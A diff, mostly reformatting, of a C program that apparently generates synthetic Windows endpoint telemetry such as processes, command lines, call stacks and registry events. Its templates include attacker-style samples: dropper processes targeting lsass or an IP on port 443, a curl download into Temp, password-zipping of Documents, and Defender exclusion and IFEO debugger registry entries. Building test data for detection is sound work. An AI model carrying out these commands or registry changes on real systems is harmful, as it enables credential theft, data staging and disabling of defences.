       "wscript.exe //B //Nologo \\\\fs01.corp.example\\netlogon\\logon.vbs",
       "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\{U}\\Downloads\\{D}.js\""}},
-    {"cscript.exe", "C:\\Windows\\System32\\cscript.exe", SG_MSWIN, 1, UK_ANY, PR_WSCRIPT, "cmd.exe,svchost.exe",
+    {"cscript.exe",
+     "C:\\Windows\\System32\\cscript.exe",
+     SG_MSWIN,
+     1,
+     UK_ANY,
+     PR_WSCRIPT,
+     "cmd.exe,svchost.exe",
      {"cscript.exe //nologo C:\\Windows\\System32\\slmgr.vbs /dli",
       "cscript.exe //NoLogo C:\\ProgramData\\{V}\\scripts\\{T}.vbs /quiet"}},
-    {"OneDrive.exe", "C:\\Users\\{U}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", SG_MSCORP, 2, UK_USER,
-     PR_GUI, "explorer.exe",
+    {"OneDrive.exe",
+     "C:\\Users\\{U}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
+     SG_MSCORP,
+     2,
+     UK_USER,
+     PR_GUI,
+     "explorer.exe",
      {"\"C:\\Users\\{U}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background"}},
-    {"ms-teams.exe", "C:\\Program Files\\WindowsApps\\MSTeams_24102.2223.2870.9480_x64__8wekyb3d8bbwe\\ms-teams.exe",
-     SG_MSCORP, 2, UK_USER, PR_V8, "explorer.exe",
-     {"\"C:\\Program Files\\WindowsApps\\MSTeams_24102.2223.2870.9480_x64__8wekyb3d8bbwe\\ms-teams.exe\" "
+    {"ms-teams.exe",
+     "C:\\Program "
+     "Files\\WindowsApps\\MSTeams_24102.2223.2870.9480_x64__8wekyb3d8bbwe\\ms-teams.exe",
+     SG_MSCORP,
+     2,
+     UK_USER,
+     PR_V8,
+     "explorer.exe",
+     {"\"C:\\Program "
+      "Files\\WindowsApps\\MSTeams_24102.2223.2870.9480_x64__8wekyb3d8bbwe\\ms-teams.exe\" "
       "msteams:system-initiated"}},
-    {"slack.exe", "C:\\Users\\{U}\\AppData\\Local\\slack\\app-4.38.125\\slack.exe", SG_SLACK, 1, UK_USER, PR_V8,
+    {"slack.exe",
+     "C:\\Users\\{U}\\AppData\\Local\\slack\\app-4.38.125\\slack.exe",
+     SG_SLACK,
+     1,
+     UK_USER,
+     PR_V8,
      "explorer.exe,slack.exe",
-     {"\"C:\\Users\\{U}\\AppData\\Local\\slack\\app-4.38.125\\slack.exe\" --type=renderer --user-data-dir="
-      "\"C:\\Users\\{U}\\AppData\\Roaming\\Slack\" --app-path=\"C:\\Users\\{U}\\AppData\\Local\\slack\\app-4.38.125\\"
+     {"\"C:\\Users\\{U}\\AppData\\Local\\slack\\app-4.38.125\\slack.exe\" --type=renderer "
+      "--user-data-dir="
+      "\"C:\\Users\\{U}\\AppData\\Roaming\\Slack\" "
+      "--app-path=\"C:\\Users\\{U}\\AppData\\Local\\slack\\app-4.38.125\\"
       "resources\\app.asar\" --enable-sandbox --lang=en-US --renderer-client-id={n} "
       "--mojo-platform-channel-handle={N} /prefetch:1"}},
-    {"Zoom.exe", "C:\\Users\\{U}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe", SG_ZOOM, 1, UK_USER, PR_GUI, "explorer.exe",
+    {"Zoom.exe",
+     "C:\\Users\\{U}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe",
+     SG_ZOOM,
+     1,
+     UK_USER,
+     PR_GUI,
+     "explorer.exe",
      {"\"C:\\Users\\{U}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe\" \"--action=join&confno={C}\""}},
-    {"7z.exe", "C:\\Program Files\\7-Zip\\7z.exe", SG_NONE, 1, UK_USER, PR_NATIVE, "explorer.exe,cmd.exe",
+    {"7z.exe",
+     "C:\\Program Files\\7-Zip\\7z.exe",
+     SG_NONE,
+     1,
+     UK_USER,
+     PR_NATIVE,
+     "explorer.exe,cmd.exe",
      {"\"C:\\Program Files\\7-Zip\\7z.exe\" x -y -o\"C:\\Users\\{U}\\Downloads\\{T}\" "
       "\"C:\\Users\\{U}\\Downloads\\{T}.zip\"",
       "7z.exe a -tzip -p{X} C:\\Users\\Public\\{F}.zip C:\\Users\\{U}\\Documents\\*"}},
-    {"curl.exe", "C:\\Windows\\System32\\curl.exe", SG_MSWIN, 1, UK_USER, PR_NATIVE, "cmd.exe,powershell.exe",
-     {"curl.exe -sSL -o C:\\Users\\{U}\\AppData\\Local\\Temp\\{F}.tmp {R}", "curl -k https://{I}/health"}},
-    {"vssadmin.exe", "C:\\Windows\\System32\\vssadmin.exe", SG_MSWIN, 1, UK_SYSTEM, PR_NATIVE, "cmd.exe,svchost.exe",
+    {"curl.exe",
+     "C:\\Windows\\System32\\curl.exe",
+     SG_MSWIN,
+     1,
+     UK_USER,
+     PR_NATIVE,
+     "cmd.exe,powershell.exe",
+     {"curl.exe -sSL -o C:\\Users\\{U}\\AppData\\Local\\Temp\\{F}.tmp {R}",
+      "curl -k https://{I}/health"}},
+    {"vssadmin.exe",
+     "C:\\Windows\\System32\\vssadmin.exe",
+     SG_MSWIN,
+     1,
+     UK_SYSTEM,
+     PR_NATIVE,
+     "cmd.exe,svchost.exe",
      {"vssadmin.exe list shadows", "vssadmin list writers"}},
-    {"sqlservr.exe", "C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe",
-     SG_MSCORP, 1, UK_NSVC, PR_NATIVE, "services.exe",
-     {"\"C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe\" -sMSSQLSERVER"}},
-    {"devenv.exe", "C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\Common7\\IDE\\devenv.exe",
-     SG_MSCORP, 1, UK_USER, PR_DOTNET, "explorer.exe",
-     {"\"C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\Common7\\IDE\\devenv.exe\" "
+    {"sqlservr.exe",
+     "C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe",
+     SG_MSCORP,
+     1,
+     UK_NSVC,
+     PR_NATIVE,
+     "services.exe",
+     {"\"C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe\" "
+      "-sMSSQLSERVER"}},
+    {"devenv.exe",
+     "C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\Common7\\IDE\\devenv.exe",
+     SG_MSCORP,
+     1,
+     UK_USER,
+     PR_DOTNET,
+     "explorer.exe",
+     {"\"C:\\Program Files\\Microsoft Visual "
+      "Studio\\2022\\Professional\\Common7\\IDE\\devenv.exe\" "
       "\"C:\\Users\\{U}\\source\\repos\\{P}\\{P}.sln\""}},
-    {NULL, "C:\\Users\\{U}\\AppData\\Local\\Temp\\{F}.exe", SG_NONE, 1, UK_USER, PR_DROPPER,
-     "explorer.exe,cmd.exe,WINWORD.EXE,mshta.exe,wscript.exe", {"\"{E}\"", "\"{E}\" -s {N}"}},
-    {NULL, "C:\\Users\\{U}\\Downloads\\{D}.exe", SG_NONE, 1, UK_USER, PR_DROPPER, "explorer.exe,OUTLOOK.EXE",
+    {NULL,
+     "C:\\Users\\{U}\\AppData\\Local\\Temp\\{F}.exe",
+     SG_NONE,
+     1,
+     UK_USER,
+     PR_DROPPER,
+     "explorer.exe,cmd.exe,WINWORD.EXE,mshta.exe,wscript.exe",
+     {"\"{E}\"", "\"{E}\" -s {N}"}},
+    {NULL,
+     "C:\\Users\\{U}\\Downloads\\{D}.exe",
+     SG_NONE,
+     1,
+     UK_USER,
+     PR_DROPPER,
+     "explorer.exe,OUTLOOK.EXE",
      {"\"{E}\" "}},
-    {NULL, "C:\\ProgramData\\{V}\\{T}.exe", SG_NONE, 1, UK_ANY, PR_DROPPER, "svchost.exe,services.exe,cmd.exe",
+    {NULL,
+     "C:\\ProgramData\\{V}\\{T}.exe",
+     SG_NONE,
+     1,
+     UK_ANY,
+     PR_DROPPER,
+     "svchost.exe,services.exe,cmd.exe",
      {"\"{E}\" --update", "\"{E}\" -k {X}"}},
-    {NULL, "C:\\Users\\Public\\Libraries\\{T}.exe", SG_NONE, 1, UK_ANY, PR_DROPPER,
-     "cmd.exe,powershell.exe,rundll32.exe", {"{E} {I} 443", "\"{E}\" lsass"}},
+    {NULL,
+     "C:\\Users\\Public\\Libraries\\{T}.exe",
+     SG_NONE,
+     1,
+     UK_ANY,
+     PR_DROPPER,
+     "cmd.exe,powershell.exe,rundll32.exe",
+     {"{E} {I} 443", "\"{E}\" lsass"}},
 };
 #define NPDEF NELEM(PDEFS)
 static uint32_t pdef_wsum;
@@ -971,7 +1683,10 @@ static const char *const UK_NAMES[4][3] = {{NULL, NULL, NULL},
                                            {"LOCAL SERVICE", "NT AUTHORITY", "S-1-5-19"},
                                            {"NETWORK SERVICE", "NT AUTHORITY", "S-1-5-20"}};
 
-static inline uint32_t r_nib(void) { return rbelow(4); }
+static inline uint32_t r_nib(void)
+{
+    return rbelow(4);
+}
 
 static void uuid(char *d)
 {
@@ -981,8 +1696,7 @@ static void uuid(char *d)
     memcpy(t, d, 32);
     int o = 0;
     for (int i = 0; i < 32; i++) {
-        if (i == 8 || i == 12 || i == 16 || i == 20)
-            d[o++] = '-';
+        if (i == 8 || i == 12 || i == 16 || i == 20) d[o++] = '-';
         d[o++] = t[i];
     }
     d[14] = '4';
@@ -1031,21 +1745,41 @@ static char *expand(char *d, char *dend, const char *t, const host *h, const pro
                 s = tmp;
                 break;
             }
-            case 'X': rhex(tmp, 8, HEXU); tmp[8] = 0; s = tmp; break;
-            case 'h': rhex(tmp, 6, HEXL); tmp[6] = 0; s = tmp; break;
-            case 'W': rhex(tmp, 32, HEXL); tmp[32] = 0; s = tmp; break;
+            case 'X':
+                rhex(tmp, 8, HEXU);
+                tmp[8] = 0;
+                s = tmp;
+                break;
+            case 'h':
+                rhex(tmp, 6, HEXL);
+                tmp[6] = 0;
+                s = tmp;
+                break;
+            case 'W':
+                rhex(tmp, 32, HEXL);
+                tmp[32] = 0;
+                s = tmp;
+                break;
             case 'G':
                 tmp[0] = '{';
                 uuid(tmp + 1);
                 for (char *q = tmp + 1; *q; q++)
-                    if (*q >= 'a' && *q <= 'f')
-                        *q = (char)(*q - 32);
+                    if (*q >= 'a' && *q <= 'f') *q = (char)(*q - 32);
                 strcat(tmp, "}");
                 s = tmp;
                 break;
-            case 'g': uuid(tmp); s = tmp; break;
-            case 'N': snprintf(tmp, sizeof tmp, "%u", rrange(100, 65535)); s = tmp; break;
-            case 'n': snprintf(tmp, sizeof tmp, "%u", rrange(1, 40)); s = tmp; break;
+            case 'g':
+                uuid(tmp);
+                s = tmp;
+                break;
+            case 'N':
+                snprintf(tmp, sizeof tmp, "%u", rrange(100, 65535));
+                s = tmp;
+                break;
+            case 'n':
+                snprintf(tmp, sizeof tmp, "%u", rrange(1, 40));
+                s = tmp;
+                break;
             case 'C':
                 snprintf(tmp, sizeof tmp, "%u%06u", rrange(1000, 99999), rbelow(1000000));
                 s = tmp;
@@ -1061,24 +1795,36 @@ static char *expand(char *d, char *dend, const char *t, const host *h, const pro
             case 'B': s = ps_encoded[rbelow((uint32_t)NELEM(PS_SCRIPTS))]; break;
             case 'R': s = RPICK(URLS); break;
             case 'Y': s = RPICK(PYSCRIPTS); break;
-            case 'F': tmp[0] = 't'; tmp[1] = 'm'; tmp[2] = 'p'; rhex(tmp + 3, 4, HEXU); tmp[7] = 0; s = tmp; break;
+            case 'F':
+                tmp[0] = 't';
+                tmp[1] = 'm';
+                tmp[2] = 'p';
+                rhex(tmp + 3, 4, HEXU);
+                tmp[7] = 0;
+                s = tmp;
+                break;
             case 'I':
-                snprintf(tmp, sizeof tmp, "10.%u.%u.%u", rrange(0, 40), rrange(0, 255), rrange(2, 254));
+                snprintf(tmp, sizeof tmp, "10.%u.%u.%u", rrange(0, 40), rrange(0, 255),
+                         rrange(2, 254));
                 s = tmp;
                 break;
             case 'r': {
                 static const char al[] = "abcdefghijklmnopqrstuvwxyz0123456789";
-                for (int i = 0; i < 12; i++)
-                    tmp[i] = al[rbelow(36)];
+                for (int i = 0; i < 12; i++) tmp[i] = al[rbelow(36)];
                 tmp[8] = '.';
                 tmp[12] = 0;
                 s = tmp;
                 break;
             }
-            default: tmp[0] = '{'; tmp[1] = k; tmp[2] = '}'; tmp[3] = 0; s = tmp; break;
+            default:
+                tmp[0] = '{';
+                tmp[1] = k;
+                tmp[2] = '}';
+                tmp[3] = 0;
+                s = tmp;
+                break;
             }
-            while (*s && d < dend - 1)
-                *d++ = *s++;
+            while (*s && d < dend - 1) *d++ = *s++;
         } else
             *d++ = *t++;
     }
@@ -1093,8 +1839,8 @@ static void make_eid(char *d, const host *h, uint32_t pid, uint64_t start_ticks)
     char raw[128];
     uint64_t s1601 = start_ticks / TICKS_PER_SEC + EPOCH_1601_SECS;
     uint64_t frac = (start_ticks % TICKS_PER_SEC) * 100;
-    int n = snprintf(raw, sizeof raw, "%s-%u-%llu.%09llu", h->agent_id, pid, (unsigned long long)s1601,
-                     (unsigned long long)frac);
+    int n = snprintf(raw, sizeof raw, "%s-%u-%llu.%09llu", h->agent_id, pid,
+                     (unsigned long long)s1601, (unsigned long long)frac);
     b64enc(d, (const unsigned char *)raw, (size_t)n);
 }
 
@@ -1106,7 +1852,10 @@ static const pdef *pdef_by_name(const char *name, size_t n)
     return NULL;
 }
 
-static uint32_t rand_pid(void) { return rrange(25, 16383) * 4; }
+static uint32_t rand_pid(void)
+{
+    return rrange(25, 16383) * 4;
+}
 
 static void proc_spawn(host *h, int slot, uint64_t start)
 {
@@ -1136,15 +1885,14 @@ static void proc_spawn(host *h, int slot, uint64_t start)
     snprintf(p->name, sizeof p->name, "%s", d->name ? d->name : basename_of(p->exe));
     lower_copy(p->name_lc, p->name);
     int nc = 0;
-    while (nc < 8 && d->cmds[nc])
-        nc++;
+    while (nc < 8 && d->cmds[nc]) nc++;
     expand(p->cmd, p->cmd + sizeof p->cmd, d->cmds[rbelow((uint32_t)nc)], h, p);
     make_eid(p->eid, h, p->pid, start);
-    for (int i = 0; i < 4; i++)
-        p->tids[i] = rand_pid();
-    static const uint8_t SVCM[] = {M_SVC_SCHEDSVC, M_SVC_QMGR, M_SVC_DNSRSLVR, M_SVC_GPSVC, M_SVC_APPINFO,
-                                   M_SVC_TERMSRV};
-    static const uint8_t COMM[] = {M_COM_THUMBCACHE, M_COM_WINDOWSCODECS, M_COM_PHOTOMETA, M_COM_SHELL32};
+    for (int i = 0; i < 4; i++) p->tids[i] = rand_pid();
+    static const uint8_t SVCM[] = {M_SVC_SCHEDSVC, M_SVC_QMGR,    M_SVC_DNSRSLVR,
+                                   M_SVC_GPSVC,    M_SVC_APPINFO, M_SVC_TERMSRV};
+    static const uint8_t COMM[] = {M_COM_THUMBCACHE, M_COM_WINDOWSCODECS, M_COM_PHOTOMETA,
+                                   M_COM_SHELL32};
     if (d->prof == PR_DLLHOST || d->prof == PR_EXPLORER || d->prof == PR_GUI || d->prof == PR_WORD)
         p->svcmod = RPICK(COMM);
     else if (strcmp(p->name, "lsass.exe") == 0)
@@ -1157,12 +1905,10 @@ static void proc_spawn(host *h, int slot, uint64_t start)
     /* parent: a live process of the wanted name on this host, else a synthesised one */
     const char *pl = d->parents;
     int np = 1;
-    for (const char *q = pl; *q; q++)
-        np += *q == ',';
+    for (const char *q = pl; *q; q++) np += *q == ',';
     int want = (int)rbelow((uint32_t)np);
     const char *ps = pl;
-    for (int i = 0; i < want; i++)
-        ps = strchr(ps, ',') + 1;
+    for (int i = 0; i < want; i++) ps = strchr(ps, ',') + 1;
     const char *pe = strchr(ps, ',');
     size_t pn = pe ? (size_t)(pe - ps) : strlen(ps);
     const proc *par = NULL;
@@ -1209,8 +1955,7 @@ static void hosts_init(void)
             snprintf(h->name, sizeof h->name, "WS-%s-%04u", RPICK(DEPTS), rrange(100, 9999));
         else if (kind < 7) {
             char t[8];
-            for (int j = 0; j < 7; j++)
-                t[j] = AL[rbelow(sizeof AL - 1)];
+            for (int j = 0; j < 7; j++) t[j] = AL[rbelow(sizeof AL - 1)];
             snprintf(h->name, sizeof h->name, "DESKTOP-%.7s", t);
         } else if (kind < 9)
             snprintf(h->name, sizeof h->name, "SRV-%s-%02u", RPICK(ROLES), rrange(1, 24));
@@ -1224,13 +1969,14 @@ static void hosts_init(void)
         if (kind >= 5 && kind < 7) {
             snprintf(h->domain, sizeof h->domain, "%.15s", h->name);
             snprintf(h->sid, sizeof h->sid, "S-1-5-21-%u-%u-%u-%u", rrange(100000000, 4000000000u),
-                     rrange(100000000, 4000000000u), rrange(100000000, 4000000000u), rrange(1000, 1010));
+                     rrange(100000000, 4000000000u), rrange(100000000, 4000000000u),
+                     rrange(1000, 1010));
         } else {
             snprintf(h->domain, sizeof h->domain, "CORP");
-            snprintf(h->sid, sizeof h->sid, "S-1-5-21-%u-%u-%u-%u", dom[0], dom[1], dom[2], rrange(1100, 48000));
+            snprintf(h->sid, sizeof h->sid, "S-1-5-21-%u-%u-%u-%u", dom[0], dom[1], dom[2],
+                     rrange(1100, 48000));
         }
-        for (int j = 0; j < 12; j++)
-            h->evprefix[j] = B64[rbelow(64)];
+        for (int j = 0; j < 12; j++) h->evprefix[j] = B64[rbelow(64)];
         h->evprefix[12] = 0;
         for (int k = 0; k < NI_COUNT; k++) {
             const char *tp = MODS[NI_FIRST + k].path;
@@ -1238,13 +1984,15 @@ static void hosts_init(void)
             char hx[33];
             rhex(hx, 32, HEXL);
             hx[32] = 0;
-            snprintf(h->nipath[k], sizeof h->nipath[k], "%.*s%s%s", (int)(bar - tp), tp, hx, bar + 1);
+            snprintf(h->nipath[k], sizeof h->nipath[k], "%.*s%s%s", (int)(bar - tp), tp, hx,
+                     bar + 1);
             h->nilen[k] = strlen(h->nipath[k]);
         }
     }
     for (int i = 0; i < NHOST; i++)
         for (int j = 0; j < NPROC; j++)
-            proc_spawn(&HOSTS[i], j, now_ticks - rrange(60, 86400 * 3) * TICKS_PER_SEC - rbelow(TICKS_PER_SEC));
+            proc_spawn(&HOSTS[i], j,
+                       now_ticks - rrange(60, 86400 * 3) * TICKS_PER_SEC - rbelow(TICKS_PER_SEC));
 }
 
 /* ------------------------------------------------------------- call stacks */
@@ -1304,10 +2052,8 @@ static void resolve(frame *f, uint8_t mod, const host *h, const proc *p)
 
 static void push_spec(const fspec *s, int tidx, int sidx, const host *h, const proc *p)
 {
-    if ((s->fl & FO) && !rpct(50))
-        return;
-    if ((s->fl & FO30) && !rpct(30))
-        return;
+    if ((s->fl & FO) && !rpct(50)) return;
+    if ((s->fl & FO30) && !rpct(30)) return;
     int reps = (s->fl & FR3) ? (int)rrange(1, 3) : (s->fl & FR2) ? (int)rrange(1, 2) : 1;
     for (int k = 0; k < reps && NFR < MAXF; k++) {
         frame *f = &FR[NFR++];
@@ -1319,9 +2065,10 @@ static void push_spec(const fspec *s, int tidx, int sidx, const host *h, const p
         } else if (s->sym) {
             f->off = s->off + (k ? (uint32_t)k * 0x2b : 0);
         } else {
-            /* no symbol: a module-relative RVA, stable per (module, template, slot) with a few variants */
-            uint64_t x = fnv1a(f->name) + (uint64_t)tidx * 7919u + (uint64_t)sidx * 104729u + (uint64_t)k * 613u +
-                         rbelow(4) * 0x1f3u;
+            /* no symbol: a module-relative RVA, stable per (module, template, slot) with a few
+             * variants */
+            uint64_t x = fnv1a(f->name) + (uint64_t)tidx * 7919u + (uint64_t)sidx * 104729u +
+                         (uint64_t)k * 613u + rbelow(4) * 0x1f3u;
             f->off = (uint32_t)(splitmix64(&x) % 0x17f000u) + 0x1000u;
         }
     }
@@ -1332,13 +2079,11 @@ static void build_stack(int t, const fspec *top, int ntop, const host *h, const 
     NFR = 0;
     const tmpl *tp = &TMPLS[t];
     if (tp->top == TOP_FULL) {
-        for (int i = 0; i < ntop; i++)
-            push_spec(&top[i], 100, i, h, p);
+        for (int i = 0; i < ntop; i++) push_spec(&top[i], 100, i, h, p);
     } else if (tp->top == TOP_STUB) {
         push_spec(&top[0], 100, 0, h, p);
     }
-    for (int i = 0; i < tp->n; i++)
-        push_spec(&tp->f[i], t, i, h, p);
+    for (int i = 0; i < tp->n; i++) push_spec(&tp->f[i], t, i, h, p);
     /* cap at 12 frames: drop frames that repeat a neighbour's module (keeps the summary intact) */
     while (NFR > 12) {
         int victim = -1;
@@ -1350,8 +2095,7 @@ static void build_stack(int t, const fspec *top, int ntop, const host *h, const 
                 break;
             }
         }
-        if (victim < 0)
-            victim = NFR - 3;
+        if (victim < 0) victim = NFR - 3;
         memmove(&FR[victim], &FR[victim + 1], (size_t)(NFR - victim - 1) * sizeof(frame));
         NFR--;
     }
@@ -1388,8 +2132,7 @@ static void write_stack(const tmpl *tp, const proc *p, int alpha, int with_summa
     int cs_left = 2, first_unb = 1;
     for (int i = 0; i < NFR; i++) {
         const frame *f = &FR[i];
-        if (i)
-            wch(',');
+        if (i) wch(',');
         wch('{');
         char si[400];
         size_t sl = 0;
@@ -1453,8 +2196,7 @@ static void write_stack(const tmpl *tp, const proc *p, int alpha, int with_summa
             int has_cs = (f->fl & FCS) && cs_left > 0 && rpct(first_unb ? 40 : 10);
             int sc_site = (f->fl & FSC) && i == 0;
             first_unb = 0;
-            if (has_cs)
-                cs_left--;
+            if (has_cs) cs_left--;
             if (!alpha) {
                 K("symbol_info");
                 wjs_n(si, sl);
@@ -1513,10 +2255,8 @@ static void write_stack(const tmpl *tp, const proc *p, int alpha, int with_summa
         int first = 1;
         for (int i = 0; i < NFR; i++) {
             const frame *f = &FR[i];
-            if (last && f->nlen == lastn && memcmp(f->name, last, lastn) == 0)
-                continue;
-            if (!first)
-                wch('|');
+            if (last && f->nlen == lastn && memcmp(f->name, last, lastn) == 0) continue;
+            if (!first) wch('|');
             first = 0;
             wput(f->name, f->nlen);
             last = f->name;
@@ -1551,10 +2291,8 @@ static void w_args(const char *cmd, uint32_t *count)
     wch('[');
     const char *s = cmd;
     for (;;) {
-        while (*s == ' ' || *s == '\t')
-            s++;
-        if (!*s)
-            break;
+        while (*s == ' ' || *s == '\t') s++;
+        if (!*s) break;
         size_t k = 0;
         int inq = 0;
         while (*s && (inq || (*s != ' ' && *s != '\t'))) {
@@ -1565,8 +2303,7 @@ static void w_args(const char *cmd, uint32_t *count)
             }
             tmp[k++] = *s++;
         }
-        if (n++)
-            wch(',');
+        if (n++) wch(',');
         wjs_n(tmp, k);
     }
     wch(']');
@@ -1604,8 +2341,8 @@ static void w_host(const host *h)
     wch('}');
 }
 
-static void w_event(int cat, const char *action, const char *type, const char *outcome, const host *h,
-                    const char *provider)
+static void w_event(int cat, const char *action, const char *type, const char *outcome,
+                    const host *h, const char *provider)
 {
     K("event");
     L("{\"category\":[");
@@ -1651,38 +2388,49 @@ static const regt REGS[] = {
     {"HKLM\\SYSTEM\\ControlSet001\\Services\\{S}\\Parameters|ServiceDll", "REG_EXPAND_SZ",
      "%SystemRoot%\\System32\\{s}.dll"},
     {"HKLM\\SYSTEM\\ControlSet001\\Services\\{S}|Type", "REG_DWORD", "#"},
-    {"HKLM\\SYSTEM\\ControlSet001\\Services\\bam\\State\\UserSettings\\{Z}|\\Device\\HarddiskVolume3\\Windows\\"
+    {"HKLM\\SYSTEM\\ControlSet001\\Services\\bam\\State\\UserSettings\\{Z}|"
+     "\\Device\\HarddiskVolume3\\Windows\\"
      "System32\\{e}",
      "REG_BINARY", NULL},
     {"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run|{T}", "REG_SZ",
      "\"C:\\Program Files\\{V}\\{T}.exe\" /background"},
     {"HKEY_USERS\\{Z}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run|{T}", "REG_SZ",
      "C:\\Users\\{U}\\AppData\\Roaming\\{V}\\{T}.exe --minimized"},
-    {"HKEY_USERS\\{Z}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx|{n}", "REG_BINARY",
-     NULL},
-    {"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\{e}|Debugger", "REG_SZ",
-     "C:\\ProgramData\\{V}\\{T}.exe"},
-    {"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\{V}\\{T}|Id", "REG_SZ",
-     "{G}"},
-    {"HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths|C:\\ProgramData\\{V}", "REG_DWORD", "0"},
+    {"HKEY_USERS\\{Z}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx|{"
+     "n}",
+     "REG_BINARY", NULL},
+    {"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution "
+     "Options\\{e}|Debugger",
+     "REG_SZ", "C:\\ProgramData\\{V}\\{T}.exe"},
+    {"HKLM\\SOFTWARE\\Microsoft\\Windows "
+     "NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\{V}\\{T}|Id",
+     "REG_SZ", "{G}"},
+    {"HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths|C:\\ProgramData\\{V}",
+     "REG_DWORD", "0"},
     {"HKLM\\SYSTEM\\ControlSet001\\Control\\Lsa|RunAsPPL", "REG_DWORD", "#"},
     {"HKLM\\SOFTWARE\\Microsoft\\Cryptography\\RNG|Seed", "REG_BINARY", NULL},
     {"HKLM\\SOFTWARE\\Microsoft\\Cryptography\\RNG|Seed", "REG_BINARY", NULL},
-    {"HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\Root\\Certificates\\{W}|Blob", "REG_BINARY", NULL},
-    {"HKEY_USERS\\{Z}\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\Trusted Documents\\TrustRecords|"
+    {"HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\Root\\Certificates\\{W}|Blob", "REG_BINARY",
+     NULL},
+    {"HKEY_USERS\\{Z}\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\Trusted "
+     "Documents\\TrustRecords|"
      "%USERPROFILE%/Downloads/{D}.docm",
      "REG_BINARY", NULL},
     {"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender|DisableAntiSpyware", "REG_DWORD", "#"},
     {"HKLM\\SYSTEM\\ControlSet001\\Control\\Session Manager\\Environment|Path", "REG_EXPAND_SZ",
-     "%SystemRoot%\\system32;%SystemRoot%;%SystemRoot%\\System32\\Wbem;%SYSTEMROOT%\\System32\\WindowsPowerShell\\"
-     "v1.0\\;%SYSTEMROOT%\\System32\\OpenSSH\\;C:\\Program Files\\Git\\cmd;C:\\Program Files\\dotnet\\;"
+     "%SystemRoot%\\system32;%SystemRoot%;%SystemRoot%\\System32\\Wbem;%SYSTEMROOT%"
+     "\\System32\\WindowsPowerShell\\"
+     "v1.0\\;%SYSTEMROOT%\\System32\\OpenSSH\\;C:\\Program Files\\Git\\cmd;C:\\Program "
+     "Files\\dotnet\\;"
      "C:\\Program Files\\nodejs\\"},
-    {"HKEY_USERS\\{Z}\\Software\\Classes\\CLSID\\{G}\\InprocServer32|ThreadingModel", "REG_SZ", "Apartment"},
-    {"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Channels\\Microsoft-Windows-PowerShell/"
+    {"HKEY_USERS\\{Z}\\Software\\Classes\\CLSID\\{G}\\InprocServer32|ThreadingModel", "REG_SZ",
+     "Apartment"},
+    {"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Channels\\Microsoft-Windows-"
+     "PowerShell/"
      "Operational|Enabled",
      "REG_DWORD", "#"},
-    {"HKEY_USERS\\{Z}\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings|ProxyEnable", "REG_DWORD",
-     "#"},
+    {"HKEY_USERS\\{Z}\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings|ProxyEnable",
+     "REG_DWORD", "#"},
 };
 
 static const char *const FILE_TPL[] = {
@@ -1694,7 +2442,8 @@ static const char *const FILE_TPL[] = {
     "C:\\Users\\{U}\\Downloads\\{T}.zip",
     "C:\\Users\\{U}\\Downloads\\{D}.pdf",
     "C:\\Windows\\Temp\\{F}.log",
-    "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\Service\\DetectionHistory\\{n}\\{g}",
+    "C:\\ProgramData\\Microsoft\\Windows "
+    "Defender\\Scans\\History\\Service\\DetectionHistory\\{n}\\{g}",
     "C:\\ProgramData\\{V}\\logs\\{T}.log",
     "C:\\Windows\\System32\\Tasks\\{V}\\{T}",
     "C:\\Users\\{U}\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\{D}.lnk",
@@ -1713,25 +2462,35 @@ static const char *const FILE_TPL[] = {
 };
 
 static const char *const GEN_DLLS[] = {
-    "C:\\Windows\\System32\\amsi.dll", "C:\\Windows\\System32\\wininet.dll", "C:\\Windows\\System32\\winhttp.dll",
-    "C:\\Windows\\System32\\crypt32.dll", "C:\\Windows\\System32\\bcrypt.dll", "C:\\Windows\\System32\\dbghelp.dll",
-    "C:\\Windows\\System32\\dbgcore.dll", "C:\\Windows\\System32\\samlib.dll", "C:\\Windows\\System32\\vaultcli.dll",
-    "C:\\Windows\\System32\\wldp.dll", "C:\\Windows\\System32\\taskschd.dll",
-    "C:\\Windows\\System32\\wbem\\wbemprox.dll", "C:\\Windows\\System32\\dnsapi.dll",
